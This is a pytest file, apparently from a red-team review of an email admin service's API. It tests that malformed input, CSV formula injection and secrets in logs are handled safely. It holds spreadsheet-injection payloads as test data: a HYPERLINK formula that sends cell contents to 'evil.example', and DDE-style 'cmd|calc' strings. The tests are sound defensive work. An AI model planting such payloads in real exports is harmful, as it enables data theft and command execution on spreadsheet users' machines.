"""Input a client or a mail sender controls: a JSON error, never a 500, a broken
response or a secret in the log (red-team review of the admin service)."""

from __future__ import annotations

import asyncio
import base64
import csv
import datetime as dt
import io
import json
import logging
import uuid
from typing import Any

import aiohttp
import pytest
from aiohttp.test_utils import TestClient
from yarl import URL

from postwarden_admin_api import routes_audit
from postwarden_admin_api.cli import configure_logging
from postwarden_admin_api.context import Role
from postwarden_store import connect
from tests.admin_api.test_pool_exhaustion import _write_events
from tests.fixtures.adminapp import bearer

Client = TestClient[Any, Any]
WHEN = dt.datetime(2026, 11, 20, 12, 0, tzinfo=dt.UTC)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


async def _raw(client: Client, request: bytes) -> bytes:
    """Send bytes as they are (aiohttp's client would refuse some) and read the answer."""
    reader, writer = await asyncio.open_connection(client.server.host, client.server.port)
    writer.write(request)
    data = b""
    try:
        async with asyncio.timeout(5):
            while chunk := await reader.read(65536):
                data += chunk
    except (TimeoutError, ConnectionResetError):
        pass
    writer.close()
    return data


@pytest.fixture
async def audited(database_url: str) -> str:
    """One audit row whose values a sender chose to look like spreadsheet formulas;
    its queue id, unique to the test (the module's database holds the others' rows)."""
    return await _audit_row(database_url, FORMULA)


async def _audit_row(database_url: str, subject: str) -> str:
    queue_id = f"Q{uuid.uuid4().hex[:12].upper()}"
    conn = await connect(database_url)
    try:
        await conn.execute("SELECT audit_ensure_partition($1)", WHEN)
        await conn.execute(
            "INSERT INTO audit_events (event_id, time, instance, queue_id, message_uid,"
            " client_name, sender, recipients, subject, size, action, rules, changes,"
            " policy_hash, duration_ms) VALUES ($1, $2, 'mx1', $3, 'u1', '+cmd|calc',"
            " '@evil.example', '{}', $4, 1, 'accept', '{}', '[]', 'h', 1)",
            uuid.uuid4(), WHEN, queue_id, subject,
        )
    finally:
        await conn.close()
    return queue_id


async def test_a_csv_cell_a_spreadsheet_would_run_is_defused(
    admin_client: Client, role_keys: dict[Role, str], audited: str
) -> None:
    response = await admin_client.get("/api/v1/audit/export",
                                      params={"format": "csv", "queue_id": audited},
                                      headers=bearer(role_keys[Role.AUDITOR]))
    assert response.status == 200, await response.text()
    [row] = list(csv.DictReader(io.StringIO(await response.text())))
    assert row["queue_id"] == audited
    assert row["subject"] == "'" + FORMULA
    assert (row["client_name"], row["sender"]) == ("'+cmd|calc", "'@evil.example")


@pytest.mark.parametrize(("subject", "cell"), [
    ("Hi;=HYPERLINK(\"https://evil.example\")", "Hi;'=HYPERLINK(\"https://evil.example\")"),
    ("Hi\n@SUM(1+9)*cmd|' /C calc'!A0", "Hi\n'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("a - b; -c", "a - b; -c"),
])
async def test_a_formula_a_spreadsheet_would_find_inside_a_csv_cell_is_defused(
    admin_client: Client, role_keys: dict[Role, str], database_url: str, subject: str,
    cell: str
) -> None:
    """A spreadsheet of a locale whose list separator is ";" (German, French Excel)
    splits a row at every ";" and reads a quote only at a cell's start, so a line break
    in a quoted cell ends its row: what follows starts a cell of its own."""
    queue_id = await _audit_row(database_url, subject)
    response = await admin_client.get("/api/v1/audit/export",
                                      params={"format": "csv", "queue_id": queue_id},
                                      headers=bearer(role_keys[Role.AUDITOR]))
    assert response.status == 200, await response.text()
    [row] = list(csv.DictReader(io.StringIO(await response.text(), newline="")))
    assert row["subject"] == cell


@pytest.mark.usefixtures("audited")
async def test_a_csv_export_names_its_charset(
    admin_client: Client, role_keys: dict[Role, str]
) -> None:
    """text/* without a charset is US-ASCII (RFC 2046), and read as ISO-8859-1 by
    common clients (Python's requests): a subject "Grüße" came out as "GrÃ¼Ã\x9fe"."""
    response = await admin_client.get("/api/v1/audit/export", params={"format": "csv"},
                                      headers=bearer(role_keys[Role.AUDITOR]))
    assert response.status == 200, await response.text()
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"


@pytest.mark.usefixtures("audited")
async def test_an_export_failing_while_streaming_is_cut_not_answered_twice(
    admin_client: Client, role_keys: dict[Role, str], database_url: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    await _write_events(database_url, 2, "cut")  # pages of one: the second is met streaming
    monkeypatch.setattr(routes_audit, "EXPORT_BATCH", 1)
    rendered = 0
    first = routes_audit.event_json

    def broken(row: Any) -> Any:
        nonlocal rendered
        rendered += 1
        if rendered > 1:  # the first page is rendered before the 200
            raise RuntimeError("a bug met on the second row")
        return first(row)

    monkeypatch.setattr(routes_audit, "event_json", broken)
    key = role_keys[Role.AUDITOR]
    data = await _raw(admin_client, b"GET /api/v1/audit/export HTTP/1.1\r\nHost: x\r\n"
                      b"Authorization: Bearer " + key.encode() + b"\r\n\r\n")
    assert data.startswith(b"HTTP/1.1 200 ")
    assert data.count(b"HTTP/1.1 ") == 1  # no error response written into the body
    body = data.partition(b"\r\n\r\n")[2]
    assert b'"event_id"' in body  # the first page went out
    assert not (b"\r\n" + body).endswith(b"\r\n0\r\n\r\n")  # no last chunk: incomplete


@pytest.mark.parametrize(
    ("role", "path", "params"),
    [
        (Role.SENDER, "/api/v1/messages", {"from": "\x00"}),
        (Role.AUDITOR, "/api/v1/admin-audit", {"action": "\x00"}),
        (Role.OPERATOR, "/api/v1/suppressions", {"after": "\x00"}),
        (Role.AUDITOR, "/api/v1/policies/\x00/revisions", {}),
    ],
)
async def test_a_nul_in_the_path_or_query_is_a_400(
    admin_client: Client, role_keys: dict[Role, str], role: Role, path: str,
    params: dict[str, str],
) -> None:
    response = await admin_client.get(path, params=params, headers=bearer(role_keys[role]))
    assert response.status == 400
    assert (await response.json())["error"]["code"] == "bad_request"


@pytest.mark.parametrize(
    "query",
    ["sender=j%F6rg@example.org", "recipient=%ED%A0%80@example.org", "%FF=1"],
    ids=["latin-1", "surrogate", "parameter-name"],
)
async def test_a_query_escape_that_is_not_utf8_is_a_400(
    admin_client: Client, role_keys: dict[Role, str], query: str,
) -> None:
    # aiohttp read it as U+FFFD: a Latin-1 sender=j%F6rg searched for "j\ufffdrg", and
    # the search answered that no such mail came.
    response = await admin_client.get(URL(f"/api/v1/audit?{query}", encoded=True),
                                      headers=bearer(role_keys[Role.AUDITOR]))
    assert response.status == 400, await response.text()
    assert (await response.json())["error"]["code"] == "bad_request"
    utf8 = await admin_client.get(URL("/api/v1/audit?sender=j%C3%B6rg@example.org",
                                      encoded=True), headers=bearer(role_keys[Role.AUDITOR]))
    assert utf8.status == 200, await utf8.text()


@pytest.mark.parametrize(
    ("role", "path", "query"),
    [
        (Role.SENDER, "/api/v1/messages", "status=queued&status=bogus&limit=5&limit=-1"),
        (Role.SENDER, "/api/v1/suppressions", "reason=manual&reason=bogus&limit=5&limit=-1"),
        (Role.AUDITOR, "/api/v1/audit", "action=reject&action=accept&limit=5&limit=-1"),
    ],
    ids=["messages", "suppressions", "audit"],
)
async def test_a_query_parameter_given_twice_is_a_422_naming_it(
    admin_client: Client, role_keys: dict[Role, str], role: Role, path: str, query: str,
) -> None:
    # The first copy was taken: status=queued&status=bogus filtered on queued, silently.
    response = await admin_client.get(f"{path}?{query}", headers=bearer(role_keys[role]))
    assert response.status == 422
    error = (await response.json())["error"]
    assert error["code"] == "validation_failed"
    assert [(d["field"], d["message"]) for d in error["details"]] == [
        (name, "given more than once") for name in sorted({query.partition("=")[0], "limit"})]


@pytest.mark.parametrize(
    ("role", "path", "params"),
    [
        (Role.SENDER, "/api/v1/messages", {"since": "9999-12-31T23:59:59-12:00"}),
        (Role.AUDITOR, "/api/v1/audit", {"since": "9999-12-31T23:59:59-12:00"}),
        (Role.AUDITOR, "/api/v1/audit/export", {"until": "0001-01-01T00:00:00+12:00"}),
        (Role.AUDITOR, "/api/v1/admin-audit", {"until": "9999-12-31T23:59:59-12:00"}),
        (Role.AUDITOR, "/api/v1/stats", {"until": "0001-01-01T00:00:00Z"}),
        (Role.AUDITOR, "/api/v1/audit", {"cursor": base64.urlsafe_b64encode(
            b'["2024-01-01T00:00:00+00:00", []]').decode()}),
        (Role.AUDITOR, "/api/v1/audit", {"cursor": base64.urlsafe_b64encode(
            b"[" * 2500 + b"]" * 2500).decode()}),
    ],
    ids=["messages-since", "audit-since", "export-until", "admin-audit-until", "stats-until",
         "cursor-list-id", "cursor-deep"],
)
async def test_a_time_or_cursor_out_of_range_is_a_422(
    admin_client: Client, role_keys: dict[Role, str], role: Role, path: str,
    params: dict[str, str],
) -> None:
    response = await admin_client.get(path, params=params, headers=bearer(role_keys[role]))
    assert response.status == 422, await response.text()


@pytest.mark.parametrize(
    ("role", "method", "path", "body"),
    [
        (Role.OPERATOR, "put", "/api/v1/settings", {"allowed_sender_addresses": ["a\x00@b.c"]}),
        (Role.OPERATOR, "post", "/api/v1/suppressions",
         {"address": "a@b.example", "detail": "\x00"}),
        (Role.ADMIN, "post", "/api/v1/keys", {"role": "auditor", "name": "x\x00"}),
    ],
)
async def test_a_nul_in_a_json_body_is_a_400(
    admin_client: Client, role_keys: dict[Role, str], role: Role, method: str, path: str,
    *, body: dict[str, Any],
) -> None:
    response = await getattr(admin_client, method)(path, json=body,
                                                   headers=bearer(role_keys[role]))
    assert response.status == 400
    assert (await response.json())["error"]["code"] == "invalid_json"


async def test_a_key_expiry_out_of_range_is_a_422(
    admin_client: Client, role_keys: dict[Role, str]
) -> None:
    for expiry in ("9999-12-31T23:59:59-12:00", 20250101):
        response = await admin_client.post(
            "/api/v1/keys", headers=bearer(role_keys[Role.ADMIN]),
            json={"role": "auditor", "name": "x", "expires_at": expiry},
        )
        assert response.status == 422, (expiry, await response.text())


async def test_a_key_that_is_not_utf8_is_a_401(admin_client: Client) -> None:
    data = await _raw(admin_client, b"GET /api/v1/audit HTTP/1.1\r\nHost: x\r\n"
                      b"Connection: close\r\nAuthorization: Bearer pw_k1_secret\xa0\r\n\r\n")
    assert data.startswith(b"HTTP/1.1 401 ")


async def test_the_policy_test_form_refuses_what_it_cannot_read(
    admin_client: Client, role_keys: dict[Role, str]
) -> None:
    headers = bearer(role_keys[Role.AUDITOR])
    form = aiohttp.FormData()
    form.add_field("message", b"Subject: hi\r\n\r\nbody\r\n", filename="m.eml")
    form.add_field("revision_id", "\u00b2")  # a digit to str.isdigit, not to int()
    response = await admin_client.post("/api/v1/policies/test", data=form, headers=headers)
    assert response.status == 422
    for content_type, body in [
        ("application/x-www-form-urlencoded; charset=nonexistent", b"sender=a"),
        ("multipart/form-data; boundary=XX", b'--XX\r\nContent-Disposition: form-data; '
         b'name="sender"\r\nContent-Transfer-Encoding: x-weird\r\n\r\nv\r\n--XX--\r\n'),
    ]:
        response = await admin_client.post("/api/v1/policies/test", data=body,
                                           headers={**headers, "Content-Type": content_type})
        assert response.status == 400, (content_type, await response.text())


def test_the_service_log_is_redacted_aiohttps_records_and_tracebacks_too(
    capsys: pytest.CaptureFixture[str],
) -> None:
    root = logging.getLogger()
    saved = root.handlers[:], root.level
    try:
        configure_logging("INFO")
        # What aiohttp logs for a request line it cannot parse: the header, key and all.
        logging.getLogger("aiohttp.server").error(
            "Error handling request: Authorization: Bearer pw_k1_0123456789secret\x7f")
        try:
            raise ValueError("connect failed: postgresql://app:hunter22@db/x")
        except ValueError:
            logging.getLogger("postwarden").exception("database unavailable")
    finally:
        root.handlers[:], level = saved
        root.setLevel(level)
    logged = capsys.readouterr().err
    assert "Bearer [REDACTED]" in logged and "0123456789secret" not in logged
    assert "app:[REDACTED]@db" in logged and "hunter22" not in logged


def _nested(depth: int) -> list[Any]:
    value: list[Any] = []
    for _ in range(depth):
        value = [value]
    return value


@pytest.mark.parametrize(
    ("role", "method", "path", "body", "status"),
    [
        (Role.OPERATOR, "post", "/api/v1/webhooks",
         {"name": "k", "url": "https://example.com/hook", "kind": []}, 422),
        (Role.OPERATOR, "post", "/api/v1/webhooks",
         {"name": "k", "url": "https://example.com/hook", "events": [{}]}, 422),
        # Python's "$" also matches before a final newline: a name that would split a log line.
        (Role.OPERATOR, "post", "/api/v1/webhooks",
         {"name": "hook\n", "url": "https://example.com/hook"}, 422),
        (Role.OPERATOR, "put", "/api/v1/settings", {"allowed_sender_addresses": ["a@b.c\n"]}, 422),
        (Role.OPERATOR, "post", "/api/v1/rules",
         {"rule": {"name": "r", "when": {"sender": ["x@y.example"]}, "then": "reject",
                   "description": _nested(400)}}, 400),
    ],
    ids=["webhook-kind-list", "webhook-event-object", "webhook-name-newline",
         "address-newline", "rule-deep-json"],
)
async def test_a_body_of_the_wrong_shape_is_a_4xx(
    admin_client: Client, role_keys: dict[Role, str], role: Role, method: str, path: str,
    *, body: dict[str, Any], status: int,
) -> None:
    response = await getattr(admin_client, method)(path, json=body,
                                                   headers=bearer(role_keys[role]))
    assert response.status == status, await response.text()


@pytest.mark.parametrize(
    ("method", "path", "raw"),
    [
        ("post", "/api/v1/rules",
         b'{"rule": {"name": "r", "when": {"size_over": NaN}, "then": "reject"}}'),
        ("post", "/api/v1/rules",
         b'{"rule": {"name": "r", "when": {"size_over": -Infinity}, "then": "reject"}}'),
        ("put", "/api/v1/settings", b'{"audit_retention_days": 1e999}'),
        ("post", "/api/v1/policies/database-rules/rollback", b'{"revision_id": 1e400}'),
    ],
    ids=["nan", "minus-infinity", "overflow", "overflow-where-an-integer-goes"],
)
async def test_a_number_json_does_not_have_is_a_400(
    admin_client: Client, role_keys: dict[Role, str], method: str, path: str, raw: bytes
) -> None:
    """Python's json reads these; no field takes them (webhook templates: tests/webhooks)."""
    headers = {**bearer(role_keys[Role.OPERATOR]), "Content-Type": "application/json"}
    response = await getattr(admin_client, method)(path, data=raw, headers=headers)
    assert response.status == 400, await response.text()
    assert (await response.json())["error"]["code"] == "invalid_json"


@pytest.mark.parametrize("limit", ["\uff15", "1_0", "+5", " 5", "5 ", "\u0665"],
                         ids=["fullwidth", "underscore", "plus", "space-before", "space-after",
                              "arabic-indic"])
async def test_a_number_is_written_in_ascii_digits_alone(
    admin_client: Client, role_keys: dict[Role, str], limit: str,
) -> None:
    # int() took each of these: limit=\uff15 listed five events.
    response = await admin_client.get("/api/v1/audit", params={"limit": limit},
                                      headers=bearer(role_keys[Role.AUDITOR]))
    assert response.status == 422
    assert [d["field"] for d in (await response.json())["error"]["details"]] == ["limit"]


async def test_a_path_id_is_written_in_ascii_digits_alone(
    admin_client: Client, role_keys: dict[Role, str],
) -> None:
    admin = bearer(role_keys[Role.ADMIN])
    created = await admin_client.post("/api/v1/webhooks", headers=admin, json={
        "name": f"hook-{uuid.uuid4().hex[:8]}", "url": "https://hooks.example/in",
        "secret": "whsec_" + base64.b64encode(bytes(32)).decode(),
        "events": ["policy.activated"]})
    assert created.status == 201, await created.text()
    number = str((await created.json())["id"])
    assert (await admin_client.get(f"/api/v1/webhooks/{number}", headers=admin)).status == 200
    for spelt in (number.translate(str.maketrans("0123456789", "\uff10\uff11\uff12\uff13"
                                                 "\uff14\uff15\uff16\uff17\uff18\uff19")),
                  f"+{number}", f"0_{number}", f"0{number}", f"%2B{number}"):
        response = await admin_client.get(f"/api/v1/webhooks/{spelt}", headers=admin)
        assert response.status == 404, spelt  # int() found the webhook
        assert (await response.json())["error"]["code"] == "not_found"
    revision = f"/api/v1/revisions/{await _revision_id(admin_client, admin)}"
    assert (await admin_client.get(revision, headers=admin)).status == 200
    zeroed = await admin_client.get(revision.replace("revisions/", "revisions/00"), headers=admin)
    assert zeroed.status == 404  # leading zeros found the revision
    assert (await zeroed.json())["error"]["code"] == "not_found"


async def _revision_id(client: Client, headers: dict[str, str]) -> int:
    body = b"version: 1\nname: zeroed\nrules:\n  - name: r\n    then: reject\n"
    uploaded = await client.post("/api/v1/policies", data=body,
                                 headers={**headers, "Content-Type": "application/yaml"})
    assert uploaded.status in (200, 201), await uploaded.text()
    return int((await uploaded.json())["id"])


async def test_a_body_that_is_not_the_gzip_it_says_is_a_400(
    admin_client: Client, role_keys: dict[Role, str]
) -> None:
    # It was a 500 internal_error with a traceback in the log.
    body = b"this is not gzip"
    answer = await _raw(admin_client, (
        f"POST /api/v1/rules HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\n"
        f"Content-Encoding: gzip\r\nContent-Length: {len(body)}\r\n"
        f"Authorization: Bearer {role_keys[Role.ADMIN]}\r\nConnection: close\r\n\r\n"
    ).encode() + body)
    head, _, text = answer.partition(b"\r\n\r\n")
    assert head.split(b" ", 2)[1] == b"400", answer[:300]
    assert json.loads(text)["error"] == {
        "code": "bad_request", "details": [],
        "message": "malformed request: the body does not decode as its Content-Encoding says "
                   "(only gzip and deflate are decoded)"}


async def test_a_body_that_is_not_the_gzip_it_says_leaves_no_error_and_closes(
    admin_client: Client, role_keys: dict[Role, str], caplog: pytest.LogCaptureFixture
) -> None:
    # Answered 400, aiohttp then read on in the body, met the fault again and logged it
    # at ERROR ("Unhandled exception", a traceback); the connection, kept alive, left
    # the request sent next on it unanswered.
    body = b"this is not gzip"
    with caplog.at_level(logging.WARNING):
        answer = await _raw(admin_client, (
            f"POST /api/v1/rules HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\n"
            f"Content-Encoding: gzip\r\nContent-Length: {len(body)}\r\n"
            f"Authorization: Bearer {role_keys[Role.ADMIN]}\r\n\r\n"
        ).encode() + body)
    head, _, _ = answer.partition(b"\r\n\r\n")
    assert head.split(b" ", 2)[1] == b"400", answer[:300]
    assert b"Connection: close" in head
    assert [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR] == []


async def test_a_head_of_the_export_answers_headers_only(
    admin_client: Client, role_keys: dict[Role, str], audited: str
) -> None:
    # The events went out after the headers: on a kept-alive connection the client read
    # them as the answer to its next request.
    answer = await _raw(admin_client, (
        f"HEAD /api/v1/audit/export?queue_id={audited} HTTP/1.1\r\nHost: t\r\n"
        f"Authorization: Bearer {role_keys[Role.AUDITOR]}\r\n\r\n"
        "GET /healthz HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n").encode())
    head, _, rest = answer.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 200 ")
    assert b"application/x-ndjson" in head
    assert rest.startswith(b"HTTP/1.1 200 "), rest[:200]
    assert rest.endswith(b'{"status": "ok"}')


async def _waits_for_a_lock(conn: Any) -> None:
    """Returns once a query of the test's database waits for a lock (bounded: a hung
    test fails rather than hangs)."""
    for _ in range(1000):
        if await conn.fetchval("SELECT count(*) FROM pg_stat_activity WHERE datname = "
                               "current_database() AND wait_event_type = 'Lock'"):
            return
        await asyncio.sleep(0.01)
    raise AssertionError("no query waited for the lock")


async def test_a_head_of_the_export_reads_no_event(
    admin_client: Client, role_keys: dict[Role, str], audited: str, database_url: str
) -> None:
    """It read the export's first page (up to 500 events) to send none of it: with
    the events locked, it waits on the lock rather than answering."""
    locker, watcher = await connect(database_url), await connect(database_url)
    try:
        async with locker.transaction():
            await locker.execute("LOCK TABLE audit_events IN ACCESS EXCLUSIVE MODE")
            head = asyncio.ensure_future(admin_client.head(
                "/api/v1/audit/export", params={"queue_id": audited},
                headers=bearer(role_keys[Role.AUDITOR])))
            waiting = asyncio.ensure_future(_waits_for_a_lock(watcher))
            await asyncio.wait({head, waiting}, return_when=asyncio.FIRST_COMPLETED)
            waited = waiting.done()
            waiting.cancel()
        response = await head
    finally:
        await locker.close()
        await watcher.close()
    assert not waited, "the HEAD queried the events"
    assert response.status == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="audit.ndjson"'
